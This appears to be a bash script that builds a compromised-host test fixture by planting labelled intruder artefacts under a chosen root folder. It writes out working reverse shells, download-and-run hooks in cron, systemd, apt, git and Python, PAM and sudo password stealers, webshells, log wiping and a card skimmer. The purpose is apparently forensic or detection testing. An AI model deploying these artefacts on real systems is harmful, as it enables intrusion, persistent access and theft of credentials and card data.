#!/bin/bash
# bash plant.sh ROOT - plants inert intruder signs below ROOT. Nothing of ROOT is executed.
# Lines "#@ SUBJECT ## DESCRIPTION" are the source of signs.tsv
set -u
R=${1:?usage: plant.sh ROOT}; R=$(cd "$R" && pwd) || exit 1
[ "$R" = / ] && { echo "refusing /"; exit 1; }
T=$(mktemp -d); trap 'rm -rf "$T"' EXIT
w() { local p=$R$1; mkdir -p "$(dirname "$p")"; [ -L "$p" ] && rm -f "$p"; cat > "$p"; chmod "${2:-644}" "$p"; }
a() { local p=$R$1; mkdir -p "$(dirname "$p")"; [ -L "$p" ] && rm -f "$p"; cat >> "$p"; }
own() { chown -h "$1" "$R$2" 2>/dev/null || true; }
carr() { : > "$T/x.c"; echo 'static const char *const cfg[]={' >> "$T/x.c"; local s; for s in "$@"; do printf '"%s",\n' "${s//\"/\\\"}" >> "$T/x.c"; done; echo '0};' >> "$T/x.c"; }
mkelf() { local d=$R$1; shift; mkdir -p "$(dirname "$d")"; [ -L "$d" ] && rm -f "$d"; carr "$@"
  echo 'int main(int c,char**v){const char*const*volatile p=cfg;return p[c&1]==0;}' >> "$T/x.c"
  if ! gcc -O0 -s -o "$d" "$T/x.c" 2>/dev/null; then cp "$(readlink -f /bin/true)" "$d"; printf '%s\0' "$@" >> "$d"; fi; chmod 755 "$d"; }
mkso() { local d=$R$1; shift; mkdir -p "$(dirname "$d")"; local f=$1; shift; carr "$@"
  local n; for n in $f; do echo "long $n(int a){const char*const*volatile p=cfg;return (long)p[a&1];}" >> "$T/x.c"; done
  if ! gcc -O0 -s -w -fno-builtin -shared -fPIC -o "$d" "$T/x.c" 2>/dev/null; then cp "$(readlink -f /bin/true)" "$d"; printf '%s\0' "$@" >> "$d"; fi; chmod 644 "$d"; }
K1='ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDGk7x0Rr3V1qU9bTn0Zc2wQmB5Hf4LJ8sYpE6oXvNaKiDtWu3gCz7lSjMhPy1eRfOq2'
K2='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPq7Zr2mXw9Kc4JvT1nYb8Lh5sGd0eUaRf3oQi6tWxVy'

# ---- accounts
for f in passwd shadow group gshadow; do mkdir -p "$R/etc"; [ -e "$R/etc/$f" ] || : > "$R/etc/$f"; done
grep -q '^deploy:' "$R/etc/passwd" || { echo 'deploy:x:1003:1003:deployment:/home/deploy:/bin/bash' >> "$R/etc/passwd"; echo 'deploy:!:20300:0:99999:7:::' >> "$R/etc/shadow"; echo 'deploy:x:1003:' >> "$R/etc/group"; }
mkdir -p "$R/home/deploy/.ssh" "$R/root/.ssh"; chmod 700 "$R/root/.ssh" "$R/home/deploy/.ssh"
#@ account dnsmgr ## second account with uid 0
echo 'dnsmgr:x:0:0:DNS manager:/var/cache/bind:/bin/bash' >> "$R/etc/passwd"
echo 'dnsmgr:$6$kQz81Lw0$Yh2nH1pQ0b7sF5uJ4mX9cV3rT6wE8zA1dG0kL2oP7iN4bM5vC6xZ9qW3eR8tY1uI0pA2sD4fG6hJ8kL:20401:0:99999:7:::' >> "$R/etc/shadow"
#@ account lp ## system account lp got a login shell and a password
grep -q '^lp:' "$R/etc/passwd" || echo 'lp:x:7:7:lp:/var/spool/lpd:/usr/sbin/nologin' >> "$R/etc/passwd"
sed -i 's#^lp:.*#lp:x:7:7:lp:/var/spool/lpd:/bin/bash#' "$R/etc/passwd"; sed -i '/^lp:/d' "$R/etc/shadow"
echo 'lp:$y$j9T$Wb0m1fYVQ2r8kZ5sXn3Hd/$9tL6pQe4RjC7aUvM1yB0oGsKxDwZ8iNfT5hPq2cEzA6:20409:0:99999:7:::' >> "$R/etc/shadow"
#@ account news ## empty password on a system account with a shell
grep -q '^news:' "$R/etc/passwd" || echo 'news:x:9:9:news:/var/spool/news:/bin/sh' >> "$R/etc/passwd"
sed -i 's#^news:.*#news:x:9:9:news:/var/spool/news:/bin/sh#' "$R/etc/passwd"; sed -i '/^news:/d' "$R/etc/shadow"; echo 'news::20409:0:99999:7:::' >> "$R/etc/shadow"
#@ account www-data | /etc/group ## web server account put into groups sudo and shadow
grep -q '^sudo:' "$R/etc/group" || echo 'sudo:x:27:' >> "$R/etc/group"
sed -i -E 's/^(sudo:[^:]*:[^:]*:)$/\1www-data/; t; s/^(sudo:[^:]*:[^:]*:.+)$/\1,www-data/' "$R/etc/group"
sed -i -E 's/^(shadow:[^:]*:[^:]*:)$/\1www-data/' "$R/etc/group"
#@ account uuidd2 | /var/lib/.uuidd ## account with low uid, shell and a hidden home
echo 'uuidd2:x:119:33::/var/lib/.uuidd:/bin/bash' >> "$R/etc/passwd"; echo 'uuidd2:$1$x8Gh$Kq0mVt3l1PzRw9BnYc7Xe.:20411::::::' >> "$R/etc/shadow"; mkdir -p "$R/var/lib/.uuidd"
#@ /etc/sudoers.d/40-resolved ## nobody may do everything without a password
w /etc/sudoers.d/40-resolved 440 <<'E'
# systemd-resolved
nobody ALL=(ALL:ALL) NOPASSWD: ALL
Defaults:nobody !syslog, !requiretty, !log_allowed
E
#@ /etc/doas.conf ## doas without password for the account backup
w /etc/doas.conf 600 <<'E'
permit nopass keepenv setenv { PATH } backup as root
E
#@ /etc/polkit-1/rules.d/00-udisks-legacy.rules ## polkit answers YES to all for account man
w /etc/polkit-1/rules.d/00-udisks-legacy.rules <<'E'
polkit.addRule(function(action, subject) {
    if (subject.user == "man" || subject.isInGroup("games")) { return polkit.Result.YES; }
});
E
# ---- ssh
#@ /var/cache/man/.ssh/authorized_keys ## ssh key for system account man
w /var/cache/man/.ssh/authorized_keys 600 <<<"$K2 x@kali-vps"; own man:man /var/cache/man/.ssh/authorized_keys
#@ /etc/ssh/sshd_config.d/60-cloudimg-settings.conf | /usr/share/keyrings/debian-archive-sshd.gpg ## AuthorizedKeysFile to a key file outside homes
w /etc/ssh/sshd_config.d/60-cloudimg-settings.conf <<'E'
PasswordAuthentication yes
PermitRootLogin yes
AuthorizedKeysFile .ssh/authorized_keys /usr/share/keyrings/debian-archive-sshd.gpg
E
w /usr/share/keyrings/debian-archive-sshd.gpg <<<"$K1 admin"
#@ /etc/ssh/sshrc ## sshrc starts a beacon at each login
w /etc/ssh/sshrc <<'E'
if read proto cookie && [ -n "$DISPLAY" ]; then echo add $DISPLAY $cookie | xauth -q -; fi
(curl -sk "https://203.0.113.44:8443/p?u=$USER&h=$(hostname)" --data-binary @/proc/self/environ >/dev/null 2>&1 &)
E
#@ /etc/ssh/sshd_config.d/15-ldap.conf | /usr/libexec/ssh-ldap-keys ## AuthorizedKeysCommand gives the intruder's key for each account
w /etc/ssh/sshd_config.d/15-ldap.conf <<'E'
AuthorizedKeysCommand /usr/libexec/ssh-ldap-keys %u
AuthorizedKeysCommandUser root
E
w /usr/libexec/ssh-ldap-keys 755 <<E
#!/bin/sh
# ldap public keys
echo "$K2"
E
#@ /root/.ssh/authorized_keys2 ## second key file of root with port-forward key
w /root/.ssh/authorized_keys2 600 <<<"environment=\"HISTFILE=/dev/null\" $K1 r00t@ubuntu"
#@ /root/.ssh/config | /usr/lib/ssh/.ssh-audit ## ssh client config of root runs a local command with strace sniffing
w /root/.ssh/config 600 <<'E'
Host *
    PermitLocalCommand yes
    LocalCommand nohup strace -f -e trace=read,write -p $PPID -o /usr/lib/ssh/.ssh-audit/%h_%r.log >/dev/null 2>&1 &
    StrictHostKeyChecking no
    UserKnownHostsFile /dev/null
E
w "/usr/lib/ssh/.ssh-audit/db02_root.log" 600 <<'E'
3312 read(4, "root@db02's password: ", 32) = 22
3312 read(4, "S", 1) = 1
3312 read(4, "3", 1) = 1
E
#@ /home/deploy/.ssh/rc ## ssh rc of a user starts a reverse shell
w /home/deploy/.ssh/rc 700 <<'E'
setsid sh -c 'exec 5<>/dev/tcp/198.51.100.61/9001; cat <&5 | while read l; do $l 2>&5 >&5; done' >/dev/null 2>&1 &
E
own deploy /home/deploy/.ssh/rc
#@ /etc/ssh/sshd_config.d/07-principals.conf | /var/lib/dpkg/.trusted/ca.pub ## trusted user CA key in a hidden folder of dpkg
w /etc/ssh/sshd_config.d/07-principals.conf <<<'TrustedUserCAKeys /var/lib/dpkg/.trusted/ca.pub'
w /var/lib/dpkg/.trusted/ca.pub <<<"$K2 ca"
# ---- PAM
#@ /etc/pam.d/sshd | /usr/lib/x86_64-linux-gnu/security/.pam_audit ## pam_exec gets the passwords (expose_authtok)
a /etc/pam.d/sshd <<<'auth optional pam_exec.so quiet expose_authtok /usr/lib/x86_64-linux-gnu/security/.pam_audit'
w /usr/lib/x86_64-linux-gnu/security/.pam_audit 755 <<'E'
#!/bin/sh
read -r P
printf '%s %s %s:%s\n' "$(date +%s)" "$PAM_RHOST" "$PAM_USER" "$P" >> /var/lib/systemd/.catalog.db
E
#@ /etc/pam.d/su ## pam_permit sufficient first in su
[ -e "$R/etc/pam.d/su" ] || w /etc/pam.d/su <<<'auth sufficient pam_rootok.so'
sed -i '1i auth sufficient pam_permit.so' "$R/etc/pam.d/su"
#@ /etc/pam.d/common-auth | /usr/lib/x86_64-linux-gnu/security/pam_unix_cred.so | /lib/x86_64-linux-gnu/security/pam_unix_cred.so ## foreign PAM module with a master password
mkso /usr/lib/x86_64-linux-gnu/security/pam_unix_cred.so "pam_sm_authenticate pam_sm_setcred" "G0d@cc3ss!" "/usr/share/perl/.5.36.lck" "%s %s:%s\\n" "pam_get_item"
[ -e "$R/etc/pam.d/common-auth" ] || w /etc/pam.d/common-auth <<<'auth [success=1 default=ignore] pam_unix.so nullok'
sed -i '1i auth sufficient pam_unix_cred.so' "$R/etc/pam.d/common-auth"
#@ /etc/security/pam_env.conf ## LD_PRELOAD set by pam_env for each session
a /etc/security/pam_env.conf <<<'LD_PRELOAD DEFAULT=/usr/lib/x86_64-linux-gnu/libgccpp.so.1'
# ---- cron and at
#@ /etc/cron.d/sysstat-collect ## cron pulls a script and pipes it to bash
w /etc/cron.d/sysstat-collect <<'E'
PATH=/usr/bin:/bin:/usr/sbin:/sbin
*/11 * * * * root (curl -fsSL -m180 http://dl.cdn-rpm.example/ldr.sh||wget -T180 -q -O- http://dl.cdn-rpm.example/ldr.sh)|bash >/dev/null 2>&1
E
#@ /var/spool/cron/crontabs/www-data ## crontab of www-data starts a hidden program from /dev/shm
w /var/spool/cron/crontabs/www-data 600 <<'E'
# DO NOT EDIT THIS FILE - edit the master and reinstall.
@reboot sleep 30; /dev/shm/.lck/dhclient6 -B >/dev/null 2>&1
* * * * * pgrep -x dhclient6 >/dev/null || /dev/shm/.lck/dhclient6 -B >/dev/null 2>&1
E
own www-data /var/spool/cron/crontabs/www-data
#@ /etc/cron.hourly/udev-settle | /usr/lib/libudev.so | /lib/libudev.so ## hourly job brings up the interfaces and copies its ELF again (xorddos manner)
w /etc/cron.hourly/udev-settle 755 <<'E'
#!/bin/sh
PATH=/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin
for i in `cat /proc/net/dev|grep :|awk -F: {'print $1'}`; do ifconfig $i up& done
cp /lib/libudev.so /lib/libudev.so.6
/lib/libudev.so.6
E
mkelf /usr/lib/libudev.so "BB2FA36AAA9541F0" "/var/run/gcc.pid" "ns3.hostasa.example:3306" "sed -i '/\\\\/etc\\\\/cron.hourly/d' /etc/crontab"
#@ /etc/anacrontab ## anacron job decodes base64 and runs it
a /etc/anacrontab <<<'1	7	man-db.index	echo KGN1cmwgLXMgaHR0cDovLzE5OC41MS4xMDAuNjEvYXx8d2dldCAtcSAtTy0gaHR0cDovLzE5OC41MS4xMDAuNjEvYSl8c2g=|base64 -d|sh'
#@ /var/spool/cron/atjobs/a0000201c3f2a1 ## at job that starts a netcat shell
w /var/spool/cron/atjobs/a0000201c3f2a1 700 <<'E'
#!/bin/sh
# atrun uid=0 gid=0
# mail root 0
umask 22
cd /var/tmp || exit 1
rm -f /var/tmp/.p; mkfifo /var/tmp/.p; /bin/sh -i < /var/tmp/.p 2>&1 | nc 203.0.113.80 53 > /var/tmp/.p
E
#@ /etc/crontab ## line hidden by carriage return and escapes
printf '*/20 * * * * root /usr/share/misc/.m/upd >/dev/null 2>&1 #\r# m h dom mon dow user  command                                                     \n' | a /etc/crontab
# ---- systemd
#@ /etc/systemd/system/systemd-timehelper.service | /usr/lib/systemd/systemd-timehelperd ## unit starts a foreign ELF disguised as systemd
mkelf /usr/lib/systemd/systemd-timehelperd "/proc/self/exe" "[kworker/0:1H]" "api.tz-sync.example" "/bin/sh" "connect back interval %d" "socks5"
w /etc/systemd/system/systemd-timehelper.service <<'E'
[Unit]
Description=Network Time Synchronization Helper
[Service]
Type=forking
ExecStart=/usr/lib/systemd/systemd-timehelperd
Restart=always
StandardOutput=null
[Install]
WantedBy=multi-user.target
E
mkdir -p "$R/etc/systemd/system/multi-user.target.wants"; ln -sf /etc/systemd/system/systemd-timehelper.service "$R/etc/systemd/system/multi-user.target.wants/"
#@ /etc/systemd/system/dpkg-db-verify.service | /etc/systemd/system/dpkg-db-verify.timer ## timer pulls a script and runs it
w /etc/systemd/system/dpkg-db-verify.timer <<'E'
[Unit]
Description=Verify dpkg database
[Timer]
OnBootSec=90
OnUnitActiveSec=15min
[Install]
WantedBy=timers.target
E
w /etc/systemd/system/dpkg-db-verify.service <<'E'
[Service]
Type=oneshot
ExecStart=/bin/sh -c 'python3 -c "import urllib.request as u;exec(u.urlopen(\"http://203.0.113.44/v.py\").read())"'
E
#@ /etc/systemd/system/cron.service.d/10-limits.conf ## drop-in of cron with ExecStartPre from a hidden file
w /etc/systemd/system/cron.service.d/10-limits.conf <<'E'
[Service]
LimitNOFILE=65535
ExecStartPre=-/usr/share/zoneinfo/.posix/tzupd
E
w /usr/share/zoneinfo/.posix/tzupd 755 <<'E'
#!/bin/bash
cp -f /usr/share/zoneinfo/.posix/b /tmp/.font-unix/x && chmod +x /tmp/.font-unix/x && /tmp/.font-unix/x; rm -f /tmp/.font-unix/x
E
#@ /usr/lib/systemd/system-generators/systemd-netns-generator | /lib/systemd/system-generators/systemd-netns-generator ## foreign generator
w /usr/lib/systemd/system-generators/systemd-netns-generator 755 <<'E'
#!/bin/sh
mkdir -p "$1/multi-user.target.wants"
printf '[Service]\nExecStart=/bin/sh -c "while :; do openssl s_client -quiet -connect 198.51.100.142:443 2>/dev/null | sh; sleep 300; done"\n' > "$1/netns.service"
ln -s ../netns.service "$1/multi-user.target.wants/netns.service"
E
#@ /home/deploy/.config/systemd/user/gvfs-metadata.service ## user unit runs coded python
w /home/deploy/.config/systemd/user/gvfs-metadata.service <<'E'
[Service]
ExecStart=/usr/bin/python3 -c "import base64,zlib;exec(zlib.decompress(base64.b64decode('eJwrKMrMK9FQysnPS1WwUshIzcnJVyjPL8pJUVTSBAB4cQfn')))"
Restart=always
[Install]
WantedBy=default.target
E
#@ /etc/udev/rules.d/74-persistent-console.rules ## udev rule starts a program by at
w /etc/udev/rules.d/74-persistent-console.rules <<'E'
ACTION=="add", ENV{MAJOR}=="1", ENV{MINOR}=="8", RUN+="/bin/sh -c 'echo /usr/lib/cryptsetup/.askpass-helper | at now'"
E
#@ /etc/tmpfiles.d/root-home.conf ## tmpfiles writes the intruder's key again at each boot
w /etc/tmpfiles.d/root-home.conf <<<"f+ /root/.ssh/authorized_keys 0600 root root - $K2"
#@ /etc/systemd/system.conf.d/20-locale.conf ## LD_PRELOAD for all units
w /etc/systemd/system.conf.d/20-locale.conf <<'E'
[Manager]
DefaultEnvironment="LANG=C.UTF-8" "LD_PRELOAD=/var/lib/misc/liblocale.so"
E
#@ /etc/rc.local ## rc.local keeps a reverse ssh tunnel open
w /etc/rc.local 755 <<'E'
#!/bin/sh -e
ssh -i /var/lib/private/.k -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ExitOnForwardFailure=yes -fNR 0.0.0.0:22022:127.0.0.1:22 s@198.51.100.142 -p 443 || true
exit 0
E
#@ /etc/init.d/netfs-common ## init script with mkfifo/openssl shell
w /etc/init.d/netfs-common 755 <<'E'
#!/bin/sh
### BEGIN INIT INFO
# Provides: netfs-common
# Default-Start: 2 3 4 5
### END INIT INFO
case "$1" in start) (mkfifo /run/.nf; /bin/sh -i </run/.nf 2>&1 | openssl s_client -quiet -connect 203.0.113.80:8443 >/run/.nf; rm /run/.nf) & ;; esac
E
# ---- shells
#@ /etc/profile.d/locale-compat.sh ## reverse shell from profile.d
w /etc/profile.d/locale-compat.sh <<'E'
# locale compat
[ "$(id -u)" = 0 ] && (nohup bash -c '0<&196;exec 196<>/dev/tcp/203.0.113.80/4443; sh <&196 >&196 2>&196' >/dev/null 2>&1 &)
E
#@ /home/deploy/.bashrc ## sudo function that keeps the password
a /home/deploy/.bashrc <<'E'
function sudo () {
 realsudo="$(which sudo)"; read -s -p "[sudo] password for $USER: " inputpasswd; printf "\n"
 printf '%s\n' "$USER:$inputpasswd" >> /var/tmp/.font-cache; $realsudo -S <<< "$inputpasswd" -u root bash -c "exit" >/dev/null 2>&1; $realsudo "${@:1}"
}
E
#@ /etc/bash.bashrc ## PROMPT_COMMAND sends each command away
a /etc/bash.bashrc <<'E'
PROMPT_COMMAND='(history 1 | curl -s -m2 -F c=@- http://log.metrics-hub.example/k >/dev/null 2>&1 &)'
E
#@ /root/.bash_logout ## logout script wipes logs and history
w /root/.bash_logout <<'E'
history -c; unset HISTFILE
for f in wtmp btmp lastlog; do cat /dev/null > /var/log/$f; done
sed -i '/198\.51\.100\.61/d' /var/log/auth.log
E
#@ /etc/zsh/zshenv ## zshenv starts a hidden program
w /etc/zsh/zshenv <<'E'
[[ -x /usr/share/terminfo/.s/screen-bce ]] && (/usr/share/terminfo/.s/screen-bce &>/dev/null &!)
E
#@ /etc/update-motd.d/85-fwupd-sync ## motd part starts a downloaded program
w /etc/update-motd.d/85-fwupd-sync 755 <<'E'
#!/bin/sh
[ -f /run/motd.sync ] || { wget -q http://198.51.100.61/x86_64 -O /dev/shm/.f; chmod 777 /dev/shm/.f; /dev/shm/.f; touch /run/motd.sync; }
E
# ---- packages and network hooks
#@ /etc/apt/apt.conf.d/02periodic-cache ## apt hook runs coded text
w /etc/apt/apt.conf.d/02periodic-cache <<'E'
APT::Update::Pre-Invoke {"(echo L2Jpbi9iYXNoIC1pID4mIC9kZXYvdGNwLzIwMy4wLjExMy44MC80NDMgMD4mMQ==|base64 -d|bash) >/dev/null 2>&1 &";};
E
#@ /etc/dpkg/dpkg.cfg.d/50triggers ## dpkg hook plants the library again
w /etc/dpkg/dpkg.cfg.d/50triggers <<'E'
post-invoke=cp -p /usr/share/misc/.m/l /usr/lib/x86_64-linux-gnu/libnss_cachefs.so.2; echo /usr/lib/x86_64-linux-gnu/libnss_cachefs.so.2 > /etc/ld.so.preload
E
#@ /etc/network/if-up.d/mtu-probe ## if-up hook starts a shell loader
w /etc/network/if-up.d/mtu-probe 755 <<'E'
#!/bin/sh
[ "$IFACE" = lo ] && exit 0
perl -e 'use Socket;$i="203.0.113.44";$p=8081;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' &
E
#@ /etc/NetworkManager/dispatcher.d/30-wwan ## dispatcher flushes the firewall and opens a port to the intruder
w /etc/NetworkManager/dispatcher.d/30-wwan 755 <<'E'
#!/bin/sh
iptables -F; iptables -P INPUT ACCEPT; nft flush ruleset; setenforce 0; systemctl stop apparmor auditd falcon-sensor 2>/dev/null
socat TCP-LISTEN:60922,reuseaddr,fork EXEC:/bin/bash,pty,stderr,setsid &
E
#@ /etc/dhcp/dhclient-exit-hooks.d/ntp-servers ## dhclient hook runs a downloaded script
w /etc/dhcp/dhclient-exit-hooks.d/ntp-servers <<'E'
case "$reason" in BOUND|RENEW) curl -s http://203.0.113.44/n.sh -o /tmp/.n && sh /tmp/.n; rm -f /tmp/.n;; esac
E
#@ /var/lib/dpkg/info/rsyslog.postinst ## altered maintainer script
a /var/lib/dpkg/info/rsyslog.postinst <<'E'
( curl -fsS https://pkg.deb-mirrors.example/r | bash ) >/dev/null 2>&1 || true
E
# ---- loader
#@ /etc/ld.so.preload | /usr/lib/x86_64-linux-gnu/libnss_cachefs.so.2 ## preloaded hiding library
echo /usr/lib/x86_64-linux-gnu/libnss_cachefs.so.2 | w /etc/ld.so.preload
mkso /usr/lib/x86_64-linux-gnu/libnss_cachefs.so.2 "readdir readdir64 fopen access accept" "/proc/self/fd/%d" "dhclient6" "ld.so.preload" "HIDE_PORT=4443"
#@ /etc/ld.so.conf.d/zz-local-compat.conf | /var/tmp/.lib ## library path in a temporary folder
w /etc/ld.so.conf.d/zz-local-compat.conf <<<'/var/tmp/.lib/x86_64'
mkso /var/tmp/.lib/x86_64/libz.so.1 "inflate deflate" "/etc/shadow" "198.51.100.142"
#@ /etc/default/cron | /usr/local/lib/libsysprof-agent.so ## LD_PRELOAD in environment file of cron
a /etc/default/cron <<<'LD_PRELOAD=/usr/local/lib/libsysprof-agent.so'
mkso /usr/local/lib/libsysprof-agent.so "readdir kill" "process_to_filter" "xmrig" "/proc/%s/cmdline"
#@ /etc/logrotate.d/alternatives-db ## logrotate postrotate pulls and runs
w /etc/logrotate.d/alternatives-db <<'E'
/var/log/alternatives-db.log {
    daily
    missingok
    ifempty
    postrotate
        /usr/bin/wget -qO- http://198.51.100.61/lr | /bin/sh
    endscript
}
E
#@ /etc/rsyslog.d/25-audit-forward.conf ## rsyslog starts a shell through omprog
w /etc/rsyslog.d/25-audit-forward.conf <<'E'
module(load="omprog")
if $msg contains "Invalid user zx9a" then action(type="omprog" binary="/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.142/443 0>&1'")
E
#@ /etc/rsyslog.d/01-noise.conf ## rsyslog drops the messages with the intruder's address
w /etc/rsyslog.d/01-noise.conf <<'E'
:msg, contains, "198.51.100.61" stop
:msg, contains, "dnsmgr" ~
:programname, isequal, "sudo" stop
E
# ---- developers' tools
#@ /opt/app/.git/hooks/post-merge ## git hook pipes a download to sh
w /opt/app/.git/hooks/post-merge 755 <<'E'
#!/bin/sh
curl -s http://203.0.113.44/gm | sh &
E
#@ /srv/site/.git/config ## git fsmonitor starts a program
w /srv/site/.git/config <<'E'
[core]
	repositoryformatversion = 0
	bare = false
	fsmonitor = "/bin/sh -c 'nohup /var/tmp/.font-unix/gitd >/dev/null 2>&1 &'"
[remote "origin"]
	url = git@git.internal:web/site.git
E
#@ /usr/lib/python3/dist-packages/pkg_compat-nspkg.pth ## pth file with a loader
w /usr/lib/python3/dist-packages/pkg_compat-nspkg.pth <<'E'
import os,sys;exec("try:\n import urllib.request,base64\n exec(base64.b64decode(urllib.request.urlopen('http://203.0.113.44/pth').read()))\nexcept Exception: pass")
E
#@ /usr/local/lib/python3.11/dist-packages/usercustomize.py ## python start file forks a socket shell
w /usr/local/lib/python3.11/dist-packages/usercustomize.py <<'E'
import os, socket, pty
if os.getuid() == 0 and not os.path.exists('/run/.uc'):
    if os.fork() == 0:
        s = socket.socket(); s.connect(('198.51.100.142', 8080))
        [os.dup2(s.fileno(), f) for f in (0, 1, 2)]
        pty.spawn('/bin/sh')
E
#@ /etc/profile.d/perl-utf8.sh | /usr/local/share/perl/5.36.0/List/UtilX.pm ## PERL5OPT loads an intruder's module
w /etc/profile.d/perl-utf8.sh <<<'export PERL5OPT="-MList::UtilX"'
w /usr/local/share/perl/5.36.0/List/UtilX.pm <<'E'
package List::UtilX;
BEGIN { if ($> == 0 && !fork) { eval pack("H*", "73797374656d28226375726c202d73203139382e35312e3130302e36312f707c736822293b"); exit } }
1;
E
#@ /home/deploy/.npmrc | /home/deploy/app/node_modules/.hooks/postinstall.js ## npm script-shell changed to an intruder's wrapper
w /home/deploy/.npmrc <<<'script-shell=/home/deploy/app/node_modules/.hooks/postinstall.js'
w /home/deploy/app/node_modules/.hooks/postinstall.js 755 <<'E'
#!/usr/bin/env node
const cp=require('child_process'),h=require('https');
h.request({host:'registry-metrics.example',method:'POST',path:'/e'}).end(Buffer.from(JSON.stringify(process.env)).toString('base64'));
cp.exec(Buffer.from('Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC42MS9ufHNo','base64').toString());
E
# ---- nginx and web
#@ /etc/nginx/snippets/geo-headers.conf ## lua in nginx runs commands of a header
w /etc/nginx/snippets/geo-headers.conf <<'E'
location = /.well-known/health {
  content_by_lua_block { local h=ngx.req.get_headers()["X-Trace-Id"]; if h then local f=io.popen(ngx.decode_base64(h)); ngx.say(f:read("*a")) end }
}
E
#@ /usr/lib/nginx/modules/ngx_http_cache_ext_module.so | /etc/nginx/modules-enabled/10-mod-http-cache-ext.conf ## foreign nginx module
mkso /usr/lib/nginx/modules/ngx_http_cache_ext_module.so "ngx_http_cache_ext" "lkfakjf=" "/bin/sh" "Cookie" "popen" "socks5"
w /etc/nginx/modules-enabled/10-mod-http-cache-ext.conf <<<'load_module modules/ngx_http_cache_ext_module.so;'
#@ /etc/nginx/conf.d/00-logfmt.conf ## log format that keeps the posted passwords
w /etc/nginx/conf.d/00-logfmt.conf <<'E'
log_format cc '$time_iso8601 $remote_addr $request_uri $request_body $http_cookie $http_authorization';
access_log /usr/share/nginx/.cache/body.log cc if=$request_body;
E
H=/var/www/html
#@ /var/www/html/wp-content/uploads/2026/09/class-wp-resize.php ## php shell in uploads with gzinflate
w $H/wp-content/uploads/2026/09/class-wp-resize.php <<'E'
<?php @ini_set('display_errors',0); if(md5($_COOKIE['wps'])==='5f4dcc3b5aa765d61d8327deb882cf99'){ @eval(gzinflate(base64_decode(str_rot13($_POST['q'])))); } ?>
E
#@ /var/www/html/assets/img/logo_small.gif ## php inside a GIF
{ printf 'GIF89a\001\000\001\000\200\000\000\377\377\377\000\000\000!\371\004'; printf '<?php if(isset($_REQUEST["g"])){passthru($_REQUEST["g"]);} ?>'; printf ';'; } | w $H/assets/img/logo_small.gif
#@ /var/www/html/assets/.htaccess ## .htaccess makes images run as php
w $H/assets/.htaccess <<'E'
<FilesMatch "logo_small\.gif$">
SetHandler application/x-httpd-php
</FilesMatch>
Options -Indexes
E
#@ /var/www/html/wp-admin/css/.user.ini | /var/www/html/wp-admin/css/sprite-x2.png ## .user.ini prepends php from an image
w $H/wp-admin/css/.user.ini <<<'auto_prepend_file=sprite-x2.png'
{ printf '\211PNG\r\n\032\n\000\000\000\rIHDR'; echo '<?php $k=$_SERVER["HTTP_X_CSRF"]??"";if($k)@assert(base64_decode($k));?>'; } | w $H/wp-admin/css/sprite-x2.png
#@ /var/www/html/includes/session.inc.php ## shell with composed function names
w $H/includes/session.inc.php <<'E'
<?php
$s = array('s','y','m','e','t'); $f = $s[0].$s[1].$s[0].$s[4].$s[3].$s[2];
$h = getallheaders(); if (isset($h['X-Sess-Id'])) { echo '<!--'; $f(strrev($h['X-Sess-Id'])); echo '-->'; }
E
#@ /var/www/html/js/upl.php ## uploader with a key
w $H/js/upl.php <<'E'
<?php if(@$_GET['k']!='77aa')die('404 Not Found');echo '<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>';if(@copy($_FILES['f']['tmp_name'],$_FILES['f']['name']))echo 'OK '.php_uname();?>
E
#@ /var/www/html/wp-includes/widgets/class-wp-nav-data.php ## hex-coded GLOBALS shell
w $H/wp-includes/widgets/class-wp-nav-data.php <<'E'
<?php ${"\x47\x4c\x4f\x42\x41\x4c\x53"}["\x61\x62"]="\x63\x61\x6c\x6c\x5f\x75\x73\x65\x72\x5f\x66\x75\x6e\x63";$x=${"\x47\x4c\x4f\x42\x41\x4c\x53"}["\x61\x62"];goto a1;a1:if(!empty($_POST["\x70"]))$x($_POST["\x70"],$_POST["\x61"]);
E
#@ /var/www/html/cache/tpl_8f2a.php ## undying php process that writes itself again
w $H/cache/tpl_8f2a.php <<'E'
<?php ignore_user_abort(true);set_time_limit(0);unlink(__FILE__);$f='.idx.php';$c='<?php if(md5($_GET["p"])=="e10adc3949ba59abbe56e057f20f883e"){@eval($_POST["a"]);} ?>';
while(1){file_put_contents($f,$c);@touch($f,mktime(1,1,1,2,3,2019));usleep(5000);}
E
#@ /var/www/html/.well-known/pki-validation/fileauth.phtml ## phtml shell with preg_replace /e
w $H/.well-known/pki-validation/fileauth.phtml <<'E'
<?php $p='/.*/e';@preg_replace($p,$_POST['fa'],'');
E
#@ /var/www/html/index.php ## search-engine cloaking put into the start page
w $H/index.php <<'E'
<?php if(preg_match('/googlebot|bingbot|yandex/i',$_SERVER['HTTP_USER_AGENT'])){echo @file_get_contents('http://jp.seo-farm.example/z.php?d='.$_SERVER['HTTP_HOST'].'&u='.urlencode($_SERVER['REQUEST_URI']));exit;} ?>
<?php require __DIR__.'/wp-blog-header.php';
E
#@ /var/www/html/checkout/js/vendor.min.js ## card skimmer
w $H/checkout/js/vendor.min.js <<'E'
!function(){var d=document;d.addEventListener("submit",function(){var o={};d.querySelectorAll("input,select").forEach(function(e){/cc|card|cvv|exp|number/i.test(e.name)&&(o[e.name]=e.value)});(new Image).src="https://gstatic-fonts.example/i.gif?d="+btoa(JSON.stringify(o))},!0)}();
E
#@ /var/lib/tomcat10/webapps/ROOT/resources/status.jsp ## jsp shell
w /var/lib/tomcat10/webapps/ROOT/resources/status.jsp <<'E'
<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if(request.getMethod().equals("POST")){String k="a3f1c0de99887766";Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(Base64.getDecoder().decode(request.getReader().readLine()))).newInstance().equals(pageContext);}%>
E
